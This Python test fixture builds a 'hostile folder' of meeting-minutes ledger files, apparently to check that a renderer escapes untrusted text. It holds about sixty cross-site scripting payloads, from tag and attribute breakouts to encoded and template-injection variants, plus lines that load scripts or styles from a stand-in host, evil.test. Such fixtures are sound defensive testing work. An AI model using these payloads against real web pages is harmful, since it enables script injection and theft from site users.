"""Sixty-odd texts that would be a script, if a page took them for more than text; each calls `tcsgBoom` or loads something."""

from __future__ import annotations

from datetime import date

from tcsg.ledger.canonical import dump_ledger
from tcsg.model import Action, Ledger, Meeting, Person, Status

_CALL = "tcsgBoom()"
_PLAIN = (
    "<script>{c}</script>⏎<ScRiPt>{c}</sCrIpT>⏎<script src=//evil.test/x.js></script>⏎<script\n>{c}</script\n>⏎<script/x>{c}</script>⏎"
    "<img src=x onerror={c}>⏎<img src=x onerror='{c}'>⏎<img/src=x/onerror={c}>⏎<IMG SRC=javascript:{c}>⏎<img src=`x`onerror={c}>⏎"
    "<svg onload={c}>⏎<svg/onload={c}>⏎<svg><script>{c}</script></svg>⏎<svg><animate onbegin={c} attributeName=x dur=1s>⏎"
    "<svg><a xlink:href=javascript:{c}><text>a</text></a></svg>⏎<svg><foreignObject><body onload={c}></foreignObject></svg>⏎"
    "<body onload={c}>⏎<iframe src=javascript:{c}></iframe>⏎<iframe srcdoc='<script>{c}</script>'>⏎<object data=javascript:{c}>⏎"
    "<embed src=javascript:{c}>⏎<a href=javascript:{c}>a</a>⏎<a href='java\tscript:{c}'>a</a>⏎<form action=javascript:{c}><button>a</button></form>⏎"
    "<input autofocus onfocus={c}>⏎<select autofocus onfocus={c}>⏎<details open ontoggle={c}>⏎<video src=x onerror={c}>⏎<audio src=x onerror={c}>⏎"
    "<marquee onstart={c}>⏎<math><mtext><script>{c}</script></mtext></math>⏎<meta http-equiv=refresh content='0;url=javascript:{c}'>⏎"
    "<base href=//evil.test/>⏎<link rel=stylesheet href=//evil.test/x.css>⏎<style>@import '//evil.test/x.css'</style>⏎"
    "<style>*{{background:url(//evil.test/x)}}</style>⏎<div style=background:url(//evil.test/x)>⏎<template><script>{c}</script></template>⏎"
    "<noscript><img src=x onerror={c}></noscript>⏎<textarea><script>{c}</script></textarea>⏎<title><script>{c}</script></title>⏎"
    '"><script>{c}</script>⏎\'><script>{c}</script>⏎" onmouseover="{c}⏎\' onmouseover=\'{c}⏎" autofocus onfocus="{c}⏎`onmouseover={c}⏎'
    "</title><script>{c}</script>⏎</style><script>{c}</script>⏎</svg><script>{c}</script>⏎</text><script>{c}</script>⏎</desc><script>{c}</script>⏎"
    "--><script>{c}</script>⏎<!--><script>{c}</script>⏎]]><script>{c}</script>⏎<![CDATA[<script>{c}</script>]]>⏎"
    "<?xml version='1.0'?><script>{c}</script>⏎"
    "&lt;script&gt;{c}&lt;/script&gt;⏎&#60;script&#62;{c}&#60;/script&#62;⏎&#x3c;script>{c}</script>⏎\\u003cscript\\u003e{c}⏎%3Cscript%3E{c}%3C/script%3E⏎"
    "{{{{constructor.constructor('{c}')()}}}}⏎${{{c}}}⏎<<script>{c}//<</script>⏎<scr<script>ipt>{c}</scr</script>ipt>⏎javascript:{c}⏎<x onclick={c}>a"
)
PAYLOADS = tuple(p.format(c=_CALL).replace("\n", " ").replace("\t", " ") for p in _PLAIN.split("⏎"))


def hostile_folder() -> dict[str, str]:
    """A folder whose ledger remembers, of minutes that are gone, payloads as words, owners, due phrases, people, reasons and meetings."""
    held, later = date(2031, 1, 2), date(2031, 2, 6)
    people = tuple(Person(f"{p} N{n}") for n, p in enumerate(PAYLOADS))
    meetings = (Meeting("1", held, "minutes/2031-01-02.md", "0" * 64, people), Meeting("2", later, "minutes/2031-02-06.md", "1" * 64))
    actions = []
    for n, payload in enumerate(PAYLOADS):
        fate = (Status.OPEN, Status.OPEN, Status.DONE, Status.DROPPED)[n % 4]
        due, closed = (date(2031, 1, 3) if n % 2 else None), (None if fate is Status.OPEN else later)
        seen, why = ("1", "2")[: 1 + n % 2], payload if fate is Status.DROPPED else None
        actions.append(Action(f"A1.{n + 1}", payload, "1", fate, due, payload, (payload, "KK"), closed, seen, why))
    quoted = PAYLOADS[0].replace('"', '\\"')
    return {"minutes/ledger.yaml": dump_ledger(Ledger(meetings, actions=tuple(actions))), "minutes/committee.yaml": f'name: "{quoted}"\n'}
